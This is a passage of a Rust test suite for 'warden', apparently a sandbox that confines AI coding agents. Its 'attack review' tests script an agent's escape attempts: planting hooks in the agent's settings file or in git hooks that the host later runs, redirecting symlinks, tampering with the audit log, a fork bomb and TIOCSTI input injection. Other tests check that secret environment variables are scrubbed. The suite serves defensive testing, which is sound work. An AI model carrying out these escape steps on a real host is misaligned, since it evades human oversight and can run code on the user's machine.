    // 5. `$XDG_STATE_HOME` (where the audit store goes) inside a writable root, first run.
    let pol = t.policy("[files]\nwrite = [\"~/xdg\"]\n");
    std::fs::create_dir_all(h.join("xdg")).unwrap();
    let o = t
        .cmd(&["--policy", &pol])
        .env("XDG_STATE_HOME", h.join("xdg"))
        .args([
            "--",
            "/bin/bash",
            "-c",
            "mkdir -p $HOME/xdg/warden 2>/dev/null; echo x > $HOME/xdg/warden/planted 2>/dev/null && echo PLANTED; \
             rm -f $HOME/xdg/warden/audit.db 2>/dev/null; echo ok > $HOME/xdg/legit",
        ])
        .output()
        .unwrap();
    assert!(!ok(&o).contains("PLANTED"), "{}", out(&o));
    assert!(!h.join("xdg/warden/planted").exists());
    assert!(
        h.join("xdg/warden/audit.db").exists(),
        "the audit store went"
    );
    assert_eq!(
        std::fs::read_to_string(h.join("xdg/legit")).unwrap(),
        "ok\n"
    );
    // 6. Never readable either (the audit store holds every session's commands): a read
    //    root there is refused; one that holds it shows it as an empty, unreadable
    //    directory, under a bare profile too.
    ok(&t.sh("true"));
    assert!(h.join(".local/state/warden/audit.db").exists());
    let pol = t.policy("[files]\nread = [\"~/.local/state/warden\"]\n");
    let o = t.sh_with(&["--policy", &pol], "echo RAN");
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    std::fs::write(
        &profile,
        "[files]\nsystem = [\"/usr\", \"/bin\", \"/lib\", \"/lib64\", \"/etc\", \"/proc\", \"/dev\"]\nread = [\"~/.local\"]\n",
    )
    .unwrap();
    let pol = t.policy("[files]\nread = [\"~/.local\"]\n");
    for args in [
        ["--policy", pol.as_str()],
        ["--profile", profile.to_str().unwrap()],
    ] {
        let o = t.sh_with(
            &args,
            "head -c 15 $HOME/.local/state/warden/audit.db 2>/dev/null && echo READ; \
             ls $HOME/.local/state/warden 2>/dev/null | grep -q audit && echo LISTED; ls -d $HOME/.local/state",
        );
        let s = ok(&o);
        assert!(
            !s.contains("READ") && !s.contains("LISTED"),
            "{args:?}: {}",
            out(&o)
        );
        assert!(
            s.contains(".local/state"),
            "the root was not shown: {}",
            out(&o)
        );
    }
    // 7. The audit store moved into the workspace with WARDEN_AUDIT_DB: its directory is
    //    warden's (hidden and locked there), the rest of the workspace works as before.
    let db = t.ws.join("logs/audit.db");
    let run = |script: &str| {
        t.cmd(&[])
            .env("WARDEN_AUDIT_DB", &db)
            .args(["--", "/bin/bash", "-c", script])
            .output()
            .unwrap()
    };
    ok(&run("true"));
    let before = std::fs::metadata(&db).expect("the store is there").len();
    let o = run(
        "cat logs/audit.db >/dev/null 2>&1 && echo READ; : > logs/audit.db 2>/dev/null && echo TRUNCATED; \
         rm -rf logs 2>/dev/null && echo REMOVED; mv logs logs2 2>/dev/null && echo MOVED; echo ok > legit",
    );
    let s = ok(&o);
    for k in ["READ", "TRUNCATED", "REMOVED", "MOVED"] {
        assert!(!s.contains(k), "{k}: {}", out(&o));
    }
    assert!(std::fs::metadata(&db).unwrap().len() >= before);
    assert_eq!(std::fs::read_to_string(t.ws.join("legit")).unwrap(), "ok\n");
}

/// Attack review 51: `~/.claude -> ~/dotfiles/claude` (a dotfile manager's layout) under the
/// claude profile. The profile's locks were mounted at the spelled path only, in the private
/// `$HOME`, and the agent wrote the real `settings.json` (a SessionStart hook a host `claude`
/// runs), `CLAUDE.md` and `hooks/`. Judged from the host; the state directory stays writable.
#[test]
fn locks_follow_a_symlinked_agent_state_directory() {
    let t = T::new("stowclaude");
    let real = t.home.join("dotfiles/claude");
    std::fs::create_dir_all(real.join("hooks")).unwrap();
    std::fs::write(real.join("settings.json"), "{\"theme\":\"dark\"}\n").unwrap();
    std::os::unix::fs::symlink("dotfiles/claude", t.home.join(".claude")).unwrap();
    let o = t.sh_with(
        &["--profile", "claude"],
        "echo '{\"hooks\":{}}' > ~/dotfiles/claude/settings.json 2>/dev/null && echo WROTE-settings; \
         echo evil > ~/dotfiles/claude/CLAUDE.md 2>/dev/null && echo WROTE-claudemd; \
         echo evil > ~/dotfiles/claude/hooks/h.sh 2>/dev/null && echo WROTE-hook; \
         mkdir -p ~/dotfiles/claude/projects && echo ok > ~/dotfiles/claude/projects/legit && echo LEGIT",
    );
    let s = String::from_utf8_lossy(&o.stdout).into_owned();
    // settings.json there is the state filter's copy (writable, see the next test): the
    // hook it gained is held, never written to the real file.
    assert!(
        !s.contains("WROTE-claudemd") && !s.contains("WROTE-hook"),
        "{}",
        out(&o)
    );
    let settings = std::fs::read_to_string(real.join("settings.json")).unwrap();
    assert!(!settings.contains("hooks"), "{settings}\n{}", out(&o));
    assert!(!real.join("CLAUDE.md").exists() && !real.join("hooks/h.sh").exists());
    assert!(s.contains("LEGIT"), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(real.join("projects/legit")).unwrap(),
        "ok\n"
    );
}

/// The same layout in daily use (`~/.claude -> dotfiles/claude`): the agent's `~/.claude` is
/// the real directory (not a throw-away one), its settings go through the state filter
/// (safe keys written back to the real file, hooks held), and the statusline script the
/// host's settings run is locked where it really is. Judged from the host afterwards.
#[test]
fn a_symlinked_claude_directory_works_and_stays_filtered() {
    let t = T::new("stowdaily");
    let real = t.home.join("dotfiles/claude");
    std::fs::create_dir_all(&real).unwrap();
    std::fs::write(
        real.join("settings.json"),
        "{\"theme\":\"dark\",\"statusLine\":{\"type\":\"command\",\"command\":\"bash ~/.claude/statusline.sh\"}}\n",
    )
    .unwrap();
    std::fs::write(real.join("statusline.sh"), "echo status\n").unwrap();
    std::os::unix::fs::symlink("dotfiles/claude", t.home.join(".claude")).unwrap();
    let o = t.sh_with(
        &["--profile", "claude"],
        "echo LINK=$(readlink ~/.claude); grep -q dark ~/.claude/settings.json && echo SEES-SETTINGS; \
         echo '{\"theme\":\"light\",\"statusLine\":{\"type\":\"command\",\"command\":\"bash ~/.claude/statusline.sh\"},\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\",\"command\":\"touch /tmp/x\"}]}]}}' > ~/.claude/settings.json; \
         echo evil >> ~/.claude/statusline.sh 2>/dev/null && echo WROTE-spelled; \
         echo evil >> ~/dotfiles/claude/statusline.sh 2>/dev/null && echo WROTE-real; \
         mkdir -p ~/.claude/projects/p && echo ok > ~/.claude/projects/p/x && echo LEGIT",
    );
    let s = String::from_utf8_lossy(&o.stdout).into_owned();
    let e = String::from_utf8_lossy(&o.stderr).into_owned();
    assert!(
        s.contains("LINK=dotfiles/claude") && s.contains("SEES-SETTINGS"),
        "{}",
        out(&o)
    );
    assert!(!s.contains("WROTE"), "{}", out(&o));
    assert!(s.contains("LEGIT"), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(real.join("projects/p/x")).unwrap(),
        "ok\n"
    );
    assert_eq!(
        std::fs::read_to_string(real.join("statusline.sh")).unwrap(),
        "echo status\n"
    );
    let settings: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(real.join("settings.json")).unwrap())
            .unwrap();
    assert_eq!(settings["theme"], "light", "{}", out(&o));
    assert!(settings.get("hooks").is_none(), "{}", out(&o));
    assert!(e.contains("HELD"), "{}", out(&o));
    assert!(std::fs::symlink_metadata(t.home.join(".claude"))
        .unwrap()
        .file_type()
        .is_symlink());
    assert!(
        !e.contains("Not a directory") && !e.contains("node_modules"),
        "{}",
        out(&o)
    );
}

/// Attack review 56 on dotfile layouts, judged from the host afterwards:
/// - `~/.claude -> proj/dotfiles/claude` with the workspace `~/proj`: renaming `dotfiles`
///   (to rebuild it with a planted `settings.json`) fails, so the host's link still names the
///   real directory;
/// - that directory replaced by a link into a protected path (as an earlier session's agent
///   could leave it): a later session refuses to start, with nothing written there;
/// - `~/.bashrc -> proj/bashrc`: the protected rc file is locked where it really is;
/// - a dangling `~/.claude` link: a clear refusal (exit 3), not a setup failure.
#[test]
fn dotfile_links_into_the_workspace_cannot_be_redirected_or_written() {
    let t = T::new("dotlinks");
    let real = t.ws.join("dotfiles/claude");
    std::fs::create_dir_all(&real).unwrap();
    std::fs::write(real.join("settings.json"), "{\"theme\":\"dark\"}\n").unwrap();
    std::os::unix::fs::symlink("proj/dotfiles/claude", t.home.join(".claude")).unwrap();
    std::fs::write(t.ws.join("bashrc"), "# rc\n").unwrap();
    std::os::unix::fs::symlink("proj/bashrc", t.home.join(".bashrc")).unwrap();
    let o = t.sh_with(
        &["--profile", "claude"],
        "mv dotfiles dotfiles.old 2>/dev/null && echo MOVED; \
         echo 'touch /tmp/x' >> bashrc 2>/dev/null && echo WROTE-rc; \
         echo ok > notes && echo LEGIT",
    );
    let s = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(!s.contains("MOVED") && !s.contains("WROTE"), "{}", out(&o));
    assert!(s.contains("LEGIT"), "{}", out(&o));
    assert_eq!(
        std::fs::canonicalize(t.home.join(".claude")).unwrap(),
        std::fs::canonicalize(&real).unwrap()
    );
    assert_eq!(
        std::fs::read_to_string(t.ws.join("bashrc")).unwrap(),
        "# rc\n"
    );
    // As an earlier session's agent could have left it (outside a session here).
    let sd = t.home.join(".config/systemd/user");
    std::fs::create_dir_all(&sd).unwrap();
    std::fs::remove_dir_all(&real).unwrap();
    std::os::unix::fs::symlink(&sd, &real).unwrap();
    let elsewhere = t.root.join("other");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let o = t
        .warden()
        .args([
            "run",
            "--profile",
            "claude",
            "--",
            "/bin/bash",
            "-c",
            "echo x > ~/.claude/evil.service",
        ])
        .current_dir(&elsewhere)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("~/.config/systemd"),
        "{}",
        out(&o)
    );
    assert!(!sd.join("evil.service").exists());
    // Dangling.
    std::fs::remove_file(&real).unwrap();
    let o = t.sh_with(&["--profile", "claude"], "true");
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("does not exist"),
        "{}",
        out(&o)
    );
}

/// Attack review 57, judged from the host afterwards: a per-file link inside an existing
/// protected directory (`~/.config/git/config -> ../../proj/gitcfg`, stow's layout) is locked
/// where it lands; a protected path reached through a second link that lies in the workspace
/// runs, with that link pinned (the agent can neither remove, rename nor replace it; it used
/// to refuse the session); a state directory reached through two links refuses the session.
#[test]
fn links_inside_protected_dirs_and_link_chains_hold() {
    let t = T::new("linkchains");
    std::fs::create_dir_all(t.home.join(".config/git")).unwrap();
    std::fs::write(t.ws.join("gitcfg"), "[user]\n").unwrap();
    std::os::unix::fs::symlink("../../proj/gitcfg", t.home.join(".config/git/config")).unwrap();
    let o = t.sh("echo '[core] fsmonitor = touch /tmp/x' >> gitcfg 2>/dev/null && echo WROTE; echo ok > notes && echo LEGIT");
    let s = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(!s.contains("WROTE") && s.contains("LEGIT"), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(t.ws.join("gitcfg")).unwrap(),
        "[user]\n"
    );
    // Two hops, the second in the workspace.
    std::fs::create_dir_all(t.ws.join("shell")).unwrap();
    std::fs::write(t.ws.join("shell/bashrc"), "# rc\n").unwrap();
    std::os::unix::fs::symlink("shell/bashrc", t.ws.join("bashrc")).unwrap();
    std::os::unix::fs::symlink("proj/bashrc", t.home.join(".bashrc")).unwrap();
    let o = t.sh(
        "rm -f bashrc; mv bashrc b2; ln -sfn evil bashrc; echo evil > bashrc; echo evil >> shell/bashrc; \
         mv shell shell2; echo ok > notes2 && echo LEGIT",
    );
    assert!(ok(&o).contains("LEGIT"), "{}", out(&o));
    assert_eq!(
        std::fs::read_link(t.ws.join("bashrc")).unwrap(),
        Path::new("shell/bashrc")
    );
    assert_eq!(
        std::fs::read_to_string(t.home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    std::fs::remove_file(t.home.join(".bashrc")).unwrap();
    // A state directory through two links, run from elsewhere.
    std::fs::create_dir_all(t.ws.join("real/claude")).unwrap();
    std::os::unix::fs::symlink("real/claude", t.ws.join("dc")).unwrap();
    std::os::unix::fs::symlink("proj/dc", t.home.join(".claude")).unwrap();
    let elsewhere = t.root.join("other");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let o = t
        .warden()
        .args(["run", "--profile", "claude", "--", "/bin/true"])
        .current_dir(&elsewhere)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("more than one symlink"),
        "{}",
        out(&o)
    );
}

/// A repository that versions its hooks (`.git/hooks -> ../tools/hooks`) and a per-file link
/// in the agent's state directory (`~/.claude/CLAUDE.md -> ../dotfiles/CLAUDE.md`) used to
/// fail every session (exit 4, "refuses to follow a symlink"). Now each link is pinned (a
/// mount on the link itself) and its landing locked. Judged from the host afterwards: the
/// links are the host's, the hooks unchanged, and a host `git commit` runs only the user's
/// hook.
#[test]
fn linked_hooks_and_linked_state_files_are_pinned_not_refused() {
    let t = T::new("linkpins");
    git(&t.ws, &["init", "-q"]);
    git(&t.ws, &["config", "user.email", "u@example.com"]);
    git(&t.ws, &["config", "user.name", "u"]);
    std::fs::remove_dir_all(t.ws.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(t.ws.join("tools/hooks")).unwrap();
    let user_hook = "#!/bin/sh\ntouch \"$(git rev-parse --git-dir)/../user-hook-ran\"\n";
    std::fs::write(t.ws.join("tools/hooks/pre-commit"), user_hook).unwrap();
    std::fs::set_permissions(
        t.ws.join("tools/hooks/pre-commit"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    std::os::unix::fs::symlink("../tools/hooks", t.ws.join(".git/hooks")).unwrap();
    let marker = t.root.join("agent-hook-ran");
    let evil = format!("#!/bin/sh\ntouch {}\n", marker.display());
    let o = t.sh(&format!(
        r#"h='{evil}'
        rm -rf .git/hooks; mv .git/hooks .git/h2; ln -sfn /tmp .git/hooks
        mkdir -p .git/hooks2 && printf "$h" > .git/hooks2/post-commit && mv -T .git/hooks2 .git/hooks
        printf "$h" > tools/hooks/post-commit; printf "$h" >> tools/hooks/pre-commit
        mv tools tools2; mv tools/hooks tools/h2; mv .git .git2
        git status --short >/dev/null && echo STATUS
        echo work > notes && git add notes && echo LEGIT"#
    ));
    let s = ok(&o);
    assert!(s.contains("STATUS") && s.contains("LEGIT"), "{}", out(&o));
    assert_eq!(
        std::fs::read_link(t.ws.join(".git/hooks")).unwrap(),
        Path::new("../tools/hooks")
    );
    assert_eq!(
        std::fs::read_to_string(t.ws.join("tools/hooks/pre-commit")).unwrap(),
        user_hook
    );
    assert!(!t.ws.join("tools/hooks/post-commit").exists());
    git(&t.ws, &["commit", "-q", "-m", "from the host"]);
    assert!(
        t.ws.join("user-hook-ran").exists(),
        "the user's hook did not run"
    );
    assert!(!marker.exists(), "the agent's hook ran on the host");
    // The per-file link in the state directory, with the claude profile.
    std::fs::create_dir_all(t.home.join(".claude")).unwrap();
    std::fs::create_dir_all(t.home.join("dotfiles")).unwrap();
    std::fs::write(t.home.join("dotfiles/CLAUDE.md"), "# mine\n").unwrap();
    std::os::unix::fs::symlink("../dotfiles/CLAUDE.md", t.home.join(".claude/CLAUDE.md")).unwrap();
    let o = t.sh_with(
        &["--profile", "claude"],
        "rm -f ~/.claude/CLAUDE.md; mv ~/.claude/CLAUDE.md ~/.claude/c2; echo evil > ~/.claude/CLAUDE.md; echo LEGIT",
    );
    assert!(ok(&o).contains("LEGIT"), "{}", out(&o));
    assert_eq!(
        std::fs::read_link(t.home.join(".claude/CLAUDE.md")).unwrap(),
        Path::new("../dotfiles/CLAUDE.md")
    );
    assert_eq!(
        std::fs::read_to_string(t.home.join("dotfiles/CLAUDE.md")).unwrap(),
        "# mine\n"
    );
}

/// Attack review 58, judged from the host afterwards with the host's own `git commit` and
/// statusline: links met by the guard (a nested repository's `hooks -> ../tools/hooks`), by a
/// git config path (`core.hooksPath = tools/hooks`, `tools -> lib/tools`) and by the host's
/// claude settings (`~/.claude/statusline.sh -> ../dotfiles/statusline.sh`) are pinned and
/// their landings locked with their directories; a symlinked `~/.claude/settings.json` runs;
/// a protected link that lands on the workspace itself refuses the session.
#[test]
fn links_met_by_the_guard_git_config_and_agent_settings_are_pinned() {
    let t = T::new("linkpins58");
    let marker = t.root.join("agent-ran");
    // A nested repository with a hooks link; a top-level hooksPath through a linked directory.
    let sub = t.ws.join("sub");
    std::fs::create_dir_all(sub.join("tools/hooks")).unwrap();
    git(&t.ws, &["init", "-q"]);
    git(&sub, &["init", "-q"]);
    std::fs::remove_dir_all(sub.join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink("../tools/hooks", sub.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(t.ws.join("lib/tools/hooks")).unwrap();
    std::os::unix::fs::symlink("lib/tools", t.ws.join("tools")).unwrap();
    git(&t.ws, &["config", "core.hooksPath", "tools/hooks"]);
    let hook = format!("#!/bin/sh\ntouch {}\n", marker.display());
    let o = t.sh(&format!(
        r#"h='{hook}'
        (cd sub && mv tools tools.old; mkdir -p tools/hooks; printf "$h" > tools/hooks/pre-commit; chmod +x tools/hooks/pre-commit)
        rm tools; mkdir -p tools/hooks; printf "$h" > tools/hooks/pre-commit; chmod +x tools/hooks/pre-commit
        printf "$h" > lib/tools/hooks/pre-commit
        echo ok > notes && echo LEGIT"#
    ));
    let s = ok(&o);
    assert!(s.contains("LEGIT"), "{}", out(&o));
    assert!(!out(&o).contains("cannot lock"), "{}", out(&o));
    std::fs::write(sub.join("f"), "x").unwrap();
    git(&sub, &["add", "f"]);
    git(
        &sub,
        &[
            "-c",
            "user.name=u",
            "-c",
            "user.email=u@example.com",
            "commit",
            "-q",
            "-m",
            "host",
        ],
    );
    git(&t.ws, &["add", "notes"]);
    git(
        &t.ws,
        &[
            "-c",
            "user.name=u",
            "-c",
            "user.email=u@example.com",
            "commit",
            "-q",
            "-m",
            "host",
        ],
    );
    assert!(!marker.exists(), "an agent's hook ran in a host git commit");
    // The host's statusline script is a link into the hidden part of $HOME.
    std::fs::create_dir_all(t.home.join("dotfiles")).unwrap();
    std::fs::create_dir_all(t.home.join(".claude")).unwrap();
    std::fs::write(t.home.join("dotfiles/statusline.sh"), "echo status\n").unwrap();
    std::os::unix::fs::symlink(
        "../dotfiles/statusline.sh",
        t.home.join(".claude/statusline.sh"),
    )
    .unwrap();
    std::fs::write(
        t.home.join("dotfiles/settings.json"),
        "{\"statusLine\":{\"type\":\"command\",\"command\":\"bash ~/.claude/statusline.sh\"}}\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(
        "../dotfiles/settings.json",
        t.home.join(".claude/settings.json"),
    )
    .unwrap();
    let o = t.sh_with(
        &["--profile", "claude"],
        "rm -f ~/.claude/statusline.sh; echo 'echo AGENT' > ~/.claude/statusline.sh; echo LEGIT",
    );
    assert!(ok(&o).contains("LEGIT"), "{}", out(&o));
    assert_eq!(
        std::fs::read_link(t.home.join(".claude/statusline.sh")).unwrap(),
        Path::new("../dotfiles/statusline.sh")
    );
    assert_eq!(
        std::fs::read_to_string(t.home.join("dotfiles/statusline.sh")).unwrap(),
        "echo status\n"
    );
    // A protected link onto the workspace itself: neither lockable nor safe to leave.
    std::fs::remove_file(sub.join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink("..", t.ws.join(".git/hooks2")).unwrap();
    std::fs::rename(t.ws.join(".git/hooks2"), t.ws.join(".git/hooks")).unwrap_or_else(|_| {
        std::fs::remove_dir_all(t.ws.join(".git/hooks")).unwrap();
        std::os::unix::fs::symlink("..", t.ws.join(".git/hooks")).unwrap();
    });
    let o = t.sh("echo RAN");
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr)
            .contains("which is or holds a directory the agent can write"),
        "{}",
        out(&o)
    );
}

/// Attack review 59, judged from the host afterwards: a per-file link below a locked state
/// subdirectory and a dangling statusline link, both landing in the workspace `~/dotfiles`
/// (the host's claude would run what the agent wrote there); a nested repository whose
/// `hooks` link goes through a linked directory (`sub/tools -> lib/tools`), run by a host
/// `git commit`; a nested `hooks` link into the agent's state directory refuses the session.
#[test]
fn landings_of_referenced_scripts_and_nested_hooks_links_are_locked() {
    let t = T::new("linkpins59");
    let dot = t.home.join("dotfiles");
    std::fs::create_dir_all(dot.join("lib/tools/hooks")).unwrap();
    std::fs::create_dir_all(t.home.join(".claude/scripts")).unwrap();
    std::fs::write(dot.join("x.sh"), "echo ok\n").unwrap();
    std::os::unix::fs::symlink("../../dotfiles/x.sh", t.home.join(".claude/scripts/x.sh")).unwrap();
    std::os::unix::fs::symlink("../dotfiles/sl.sh", t.home.join(".claude/sl.sh")).unwrap();
    std::fs::write(
        t.home.join(".claude/settings.json"),
        r#"{"statusLine":{"type":"command","command":"bash ~/.claude/sl.sh"},"hooks":{"Stop":[{"hooks":[{"type":"command","command":"bash ~/.claude/scripts/x.sh"}]}]}}"#,
    )
    .unwrap();
    let run = |dir: &Path, args: &[&str], script: &str| {
        t.warden()
            .arg("run")
            .args(args)
            .args(["--", "/bin/bash", "-c", script])
            .current_dir(dir)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let o = run(
        &dot,
        &["--profile", "claude"],
        "echo 'echo AGENT' >> x.sh; echo 'echo AGENT' > sl.sh; echo ok > notes && echo LEGIT",
    );
    assert!(ok(&o).contains("LEGIT"), "{}", out(&o));
    assert_eq!(
        std::fs::read_to_string(dot.join("x.sh")).unwrap(),
        "echo ok\n"
    );
    assert!(
        !dot.join("sl.sh").exists(),
        "the dangling statusline landing was created"
    );
    // The nested repository, with the generic profile.
    let sub = dot.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    git(&sub, &["init", "-q"]);
    std::fs::remove_dir_all(sub.join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink("../tools/hooks", sub.join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink("../lib/tools", sub.join("tools")).unwrap();
    let marker = t.root.join("agent-ran");
    let o = run(
        &dot,
        &[],
        &format!(
            "h='#!/bin/sh\ntouch {}\n'; printf \"$h\" > lib/tools/hooks/pre-commit; chmod +x lib/tools/hooks/pre-commit; \
             rm sub/tools; mkdir -p sub/tools/hooks && printf \"$h\" > sub/tools/hooks/pre-commit; echo LEGIT",
            marker.display()
        ),
    );
    assert!(ok(&o).contains("LEGIT"), "{}", out(&o));
    std::fs::write(sub.join("f"), "x").unwrap();
    git(&sub, &["add", "f"]);
    git(
        &sub,
        &[
            "-c",
            "user.name=u",
            "-c",
            "user.email=u@example.com",
            "commit",
            "-q",
            "-m",
            "host",
        ],
    );
    assert!(!marker.exists(), "an agent's hook ran in a host git commit");
    // A nested hooks link into the claude state directory: refused.
    std::fs::remove_file(sub.join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink(t.home.join(".claude/githooks"), sub.join(".git/hooks")).unwrap();
    let o = run(&dot, &["--profile", "claude"], "echo RAN");
    // A refusal of the layout (exit 3), not "the machine lacks a kernel feature" (exit 4).
    assert_eq!(o.status.code(), Some(3), "{}", out(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("which the agent can write"),
        "{}",
        out(&o)
    );
}

/// A workspace made by `git worktree add ../feature` (its `.git` a `gitdir:` file naming the
/// main repository's git dir in the hidden part of `$HOME`): git used to fail on every command
/// ("not a git repository"). The checkout's git dirs are shown read-only: status, log and diff
/// work, a commit fails on the read-only index, and the main repository's hooks stay the
/// host's (judged on the host).
#[test]
fn a_worktree_workspace_can_use_git_read_only() {
    let t = T::new("worktree");
    let main = t.home.join("main");
    std::fs::create_dir_all(&main).unwrap();
    git(&main, &["init", "-q"]);
    std::fs::write(main.join("f"), "a\n").unwrap();
    git(&main, &["add", "f"]);
    git(
        &main,
        &[
            "-c",
            "user.name=u",
            "-c",
            "user.email=u@example.com",
            "commit",
            "-q",
            "-m",
            "first",
        ],
    );
    let wt = t.home.join("feature");
    git(&main, &["worktree", "add", "-q", wt.to_str().unwrap()]);
    let o = t
        .warden()
        .args(["run", "--", "/bin/bash", "-c"])
        .arg("git log --oneline | grep -q first && echo LOG; echo b >> f; git diff --stat | grep -q '1 file' && echo DIFF; \
             git status --short >/dev/null && echo STATUS; echo x > ../main/.git/hooks/pre-commit || echo HOOKS-RO")
        .current_dir(&wt)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let s = ok(&o);
    for w in ["LOG", "DIFF", "STATUS", "HOOKS-RO"] {
        assert!(s.contains(w), "{w}: {}", out(&o));
    }
    assert!(!main.join(".git/hooks/pre-commit").exists());
    assert_eq!(std::fs::read_to_string(wt.join("f")).unwrap(), "a\nb\n");
}

#[test]
fn tiocsti_is_denied() {
    let t = T::new("tiocsti");
    let script = r#"/usr/bin/python3 - <<'PY'
import os, pty, fcntl, termios
m, s = pty.openpty()
try:
    fcntl.ioctl(s, termios.TIOCSTI, b"x")
    print("OK-tiocsti")
except OSError as e:
    print("denied", e.errno)
PY"#;
    let o = t.sh(script);
    let s = ok(&o);
    assert!(s.contains("denied 1"), "{}", out(&o));
}

#[test]
fn fork_bomb_is_contained() {
    let t = T::new("forkbomb");
    let p = t.policy("[process]\npids_max = 400\n");
    let script = r#"/usr/bin/python3 - <<'PY'
import os, time
n = 0
try:
    for _ in range(10000):
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        n += 1
except OSError as e:
    print("stopped", n, e.errno)
else:
    print("UNBOUNDED", n)
PY"#;
    let started = std::time::Instant::now();
    let o = t.sh_with(&["--policy", &p], script);
    let s = ok(&o);
    assert!(s.contains("stopped"), "{}", out(&o));
    let n: u32 = s.split_whitespace().nth(1).unwrap().parse().unwrap();
    assert!(n < 400, "forked {n} processes past a limit of 400");
    // The sleeping children died with the sandbox (init exit kills the pid namespace).
    assert!(
        started.elapsed().as_secs() < 25,
        "sandbox did not end with the agent"
    );
}

#[test]
fn secrets_are_scrubbed_from_the_environment() {
    let t = T::new("env");
    let vars = [
        ("GITHUB_TOKEN", "ghp_x"),
        ("AWS_SECRET_ACCESS_KEY", "aws"),
        ("MY_SERVICE_API_KEY", "k"),
        ("DB_PASSWORD", "p"),
        ("SSH_AUTH_SOCK", "/tmp/ssh"),
        ("ANTHROPIC_API_KEY", "sk-ant"),
        ("OPENAI_API_KEY", "sk-oa"),
        ("HARMLESS", "yes"),
    ];
    let mut c = t.cmd(&["--profile", "claude"]);
    for (k, v) in vars {
        c.env(k, v);
    }
    c.args(["--", "/usr/bin/env"]);
    let o = c.output().unwrap();
    let s = ok(&o);
    for k in [
        "GITHUB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "MY_SERVICE_API_KEY",
        "DB_PASSWORD",
        "SSH_AUTH_SOCK",
        "OPENAI_API_KEY",
    ] {
        assert!(!s.contains(&format!("{k}=")), "{k} reached the agent:\n{s}");
    }
    assert!(
        s.contains("ANTHROPIC_API_KEY=sk-ant"),
        "claude profile passes ANTHROPIC_API_KEY:\n{s}"
    );
    assert!(s.contains("HARMLESS=yes"));
    assert!(s.contains("TMPDIR=/tmp"));
    // The generic profile scrubs the model key too.
    let mut c = t.cmd(&[]);
    c.env("ANTHROPIC_API_KEY", "sk-ant")
        .args(["--", "/usr/bin/env"]);
    let s = ok(&c.output().unwrap());
    assert!(!s.contains("ANTHROPIC_API_KEY"), "{s}");
}

/// Review F7: secrets under the spellings real tools read (libpq, mysql, npm, lower case,
/// bare names, webhooks) do not reach `env` inside; everyday variables and the profile's own
/// agent key do.
#[test]
fn secrets_under_other_spellings_are_scrubbed() {
    let t = T::new("env-spellings");
    let secrets = [
        "PGPASSWORD",
        "MYSQL_PWD",
        "GITHUB_PAT",
        "npm_config__authToken",
        "github_token",
        "SECRET",
        "TOKEN",
        "PASSWORD",
        "SLACK_WEBHOOK_URL",
        // Review R3.
        "GPG_PASSPHRASE",
        "PASSPHRASE",
        "DOCKER_AUTH_CONFIG",
        "CI_JOB_JWT",
        "JWT",
        "COOKIE",
        "GITHUB_OAUTH",
        "MY_CREDS",
        "PGPASS",
        "AUTH",
        "AUTH_HEADER",
        "BEARER",
    ];
    // Review R3: a URL with a password in its userinfo, whatever the variable's name.
    let url_secrets = [
        (
            "MONGODB_URI",
            "mongodb+srv://app:s3cr3t-value@db.example.net/x",
        ),
        ("REDIS_URL", "redis://:s3cr3t-value@localhost:6379/0"),
        (
            "PIP_INDEX_URL",
            "https://u:s3cr3t-value@pypi.example.com/simple",
        ),
        (
            "UV_INDEX_URL",
            "https://u:s3cr3t-value@uv.example.com/simple",
        ),
        (
            "NPM_CONFIG_REGISTRY",
            "https://u:s3cr3t-value@npm.example.com/",
        ),
    ];
    let mut c = t.cmd(&["--profile", "claude"]);
    for k in secrets {
        c.env(k, "s3cr3t-value");
    }
    for (k, v) in url_secrets {
        c.env(k, v);
    }
    c.env("EDITOR", "vi")
        .env("LANG", "C.UTF-8")
        .env("ANTHROPIC_API_KEY", "sk-ant")
        .env("UPSTREAM_URL", "https://git@example.com:8443/a:b")
        .args(["--", "/usr/bin/env"]);
    let s = ok(&c.output().unwrap());
    for k in secrets.iter().chain(url_secrets.iter().map(|(k, _)| k)) {
        assert!(!s.contains(&format!("{k}=")), "{k} reached the agent:\n{s}");
    }
    assert!(!s.contains("s3cr3t-value"), "{s}");
    for kv in [
        "EDITOR=vi",
        "LANG=C.UTF-8",
        "ANTHROPIC_API_KEY=sk-ant",
        "UPSTREAM_URL=https://git@example.com:8443/a:b",
    ] {
        assert!(s.lines().any(|l| l == kv), "{kv} missing inside:\n{s}");
    }
}

/// Review R2: warden's trust index (`~/.local/share/warden/index.db`, which vouches for
/// binaries in allowlist mode) is not the agent's, whether the workspace is `$HOME` (with
